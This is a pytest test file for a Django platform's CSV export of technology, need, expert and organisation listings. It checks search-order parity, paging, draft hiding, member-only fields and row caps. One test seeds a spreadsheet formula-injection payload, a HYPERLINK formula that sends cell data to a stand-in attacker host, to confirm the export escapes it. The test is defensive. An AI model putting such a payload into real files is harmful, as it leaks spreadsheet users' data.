import csv
import io

import pytest
from django.urls import reverse

from verdex.catalog.models import Status
from verdex.organisations.models import Organisation
from verdex.taxonomy.models import Arrangement, Benefit, Country, TechnologyField

pytestmark = pytest.mark.django_db

BOM = "\ufeff"


def export_rows(client, kind, params=None):
    response = client.get(reverse("exports:download", args=[kind, "csv"]), params or {})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith(BOM)
    response.body_text = text
    return response, list(csv.DictReader(io.StringIO(text[len(BOM):])))


def search_page_ids(client, page_name, params):
    response = client.get(reverse(page_name), {**params, "per_page": 100})
    return [item.pk for item in response.context["results"].items]


def test_export_holds_the_same_rows_as_the_search_page(client, make_technology):
    make_technology(title="Solar pump for farms")
    make_technology(title="Solar dryer", developed_in=Country.objects.get(code="DE"))
    make_technology(title="Solar cooker", fields=("Y02A20",))
    make_technology(title="Wind pump", summary="A pump driven by a small wind turbine.")
    params = {"q": "solar", "field": "Y02E", "sort": "newest"}

    _, rows = export_rows(client, "technology", params)

    expected = search_page_ids(client, "search:technologies", params)
    assert [int(row["id"]) for row in rows] == expected
    assert {row["title"] for row in rows} == {"Solar pump for farms", "Solar dryer"}


@pytest.mark.parametrize("mode", ["", "keyword", "semantic", "hybrid"])
def test_best_match_order_is_the_search_pages_order(client, make_technology, mode):
    make_technology(title="Solar water pump", summary="Pumps water with solar power.")
    make_technology(title="Rainwater tank", summary="Stores water; a solar pump is optional.")
    make_technology(title="Solar dryer", summary="Dries crops with the sun.")
    make_technology(title="Wind turbine", summary="Turns wind into power.")
    params = {"q": "solar pump", "mode": mode}

    _, rows = export_rows(client, "technology", params)

    assert [int(row["id"]) for row in rows] == search_page_ids(client, "search:technologies", params)
    assert rows[0]["title"] == "Solar water pump"


def test_every_page_of_results_is_exported_not_just_one(client, make_technology):
    for number in range(3):
        make_technology(title=f"Heat pump {number}")

    _, rows = export_rows(client, "technology", {"per_page": 1, "page": 2})

    assert sorted(row["title"] for row in rows) == ["Heat pump 0", "Heat pump 1", "Heat pump 2"]


def test_drafts_and_unpublished_listings_are_never_exported(client, member, make_technology):
    make_technology(title="Published pump")
    make_technology(title="Draft pump", status=Status.DRAFT)
    make_technology(title="Pump under review", status=Status.SUBMITTED)
    client.force_login(member)  # the owner of all three

    _, rows = export_rows(client, "technology")

    assert [row["title"] for row in rows] == ["Published pump"]


def test_visitors_get_the_public_summary_only(client, make_technology):
    make_technology(patent_numbers="US1234567", description="<p>Secret sauce.</p>")

    response, rows = export_rows(client, "technology")

    assert set(rows[0]) == {
        "id", "url", "title", "summary", "fields", "sdgs", "trl_group", "record_type", "country",
        "country_code", "organisation", "published_at", "updated_at",
    }
    assert "Secret sauce" not in response.body_text and "US1234567" not in response.body_text
    assert rows[0]["trl_group"] == "Demonstration (TRL 7–8)"
    assert rows[0]["country"] == "Kenya"
    assert rows[0]["url"].startswith("http://testserver/technologies/")


def test_members_get_full_public_details_as_plain_text(client, other_member, make_technology):
    technology = make_technology(
        description="<p>Saves <strong>water</strong> &amp; diesel.</p><ul><li>Cheap</li><li>Robust</li></ul>",
        patent_numbers="US1234567, EP7654321",
        benefits_other="Quieter than diesel",
    )
    technology.benefits.set(Benefit.objects.filter(slug__in=["energy", "health"]))
    technology.availability.set(Arrangement.objects.filter(slug__in=["licence", "sale"]))
    technology.available_in.set(Country.objects.filter(code__in=["KE", "UG"]))
    client.force_login(other_member)

    _, rows = export_rows(client, "technology")

    row = rows[0]
    assert row["description"] == "Saves water & diesel.\nCheap\nRobust"
    assert row["patent_numbers"] == "US1234567; EP7654321"
    assert row["ip_status"] == "Patented"
    assert row["trl"] == "8"
    assert set(row["availability"].split("; ")) == set(
        Arrangement.objects.filter(slug__in=["licence", "sale"]).values_list("name", flat=True)
    )
    assert "Quieter than diesel" in row["benefits"].split("; ")
    assert set(row["available_countries"].split("; ")) == {"Kenya", "Uganda"}


def test_formula_cells_are_escaped(client, make_technology, organisation, org_admin):
    organisation.name = "@Sunfield"
    organisation.save()
    make_technology(
        title='=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        summary="+254 700 000 000 is our hotline",
        organisation=organisation,
        owner=org_admin,
    )

    _, rows = export_rows(client, "technology")

    assert rows[0]["title"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    assert rows[0]["summary"] == "'+254 700 000 000 is our hotline"
    assert rows[0]["organisation"] == "'@Sunfield"


def test_several_values_share_one_cell(client, make_technology):
    make_technology(fields=("Y02E10", "Y02A20"))

    _, rows = export_rows(client, "technology")

    assert len(rows) == 1
    chosen = TechnologyField.objects.filter(code__in=["Y02A20", "Y02E10"]).order_by("code")
    assert sorted(rows[0]["fields"].split("; ")) == [f"{field.code} {field.name}" for field in chosen]


def test_a_large_result_is_capped_and_says_so(client, settings, make_technology):
    settings.EXPORT_MAX_ROWS = 2
    for number in range(3):
        make_technology(title=f"Pump {number}")

    response, rows = export_rows(client, "technology")

    assert len(rows) == 2
    assert response["X-Total-Count"] == "3"
    assert response["X-Export-Rows"] == "2"
    assert response["X-Export-Capped"] == "true"
    assert "first 2 of 3" in response["X-Export-Note"]


def test_an_uncapped_export_says_it_is_complete(client, make_technology):
    make_technology()

    response, _ = export_rows(client, "technology")

    assert response["X-Export-Capped"] == "false"
    assert response["Content-Disposition"].startswith('attachment; filename="verdex-technologies-')


def test_needs_experts_and_organisations_export_with_filters(client, make_need, make_expert, organisation):
    make_need(title="Water for schools")
    make_need(title="Water for clinics", country=Country.objects.get(code="KE"))
    make_expert(full_name="Amina Otieno")
    Organisation.objects.create(
        name="Windfield", org_type=Organisation.Type.NGO, country=Country.objects.get(code="DE")
    )

    _, needs = export_rows(client, "need", {"country": "KE"})
    _, experts = export_rows(client, "expert")
    _, organisations = export_rows(client, "organisation", {"country": "DE"})

    assert [row["title"] for row in needs] == ["Water for clinics"]
    assert needs[0]["summary"] == "Schools in arid districts need safe water without grid power."
    assert [row["name"] for row in experts] == ["Amina Otieno"]
    assert [row["name"] for row in organisations] == ["Windfield"]
    assert organisations[0]["partner"] == "no"


def test_unknown_kinds_and_formats_are_not_found(client):
    assert client.get("/exports/widget.csv").status_code == 404
    assert client.get("/exports/technology.xml").status_code == 404


def test_export_is_read_only(client):
    response = client.post(reverse("exports:download", args=["technology", "csv"]))

    assert response.status_code == 405
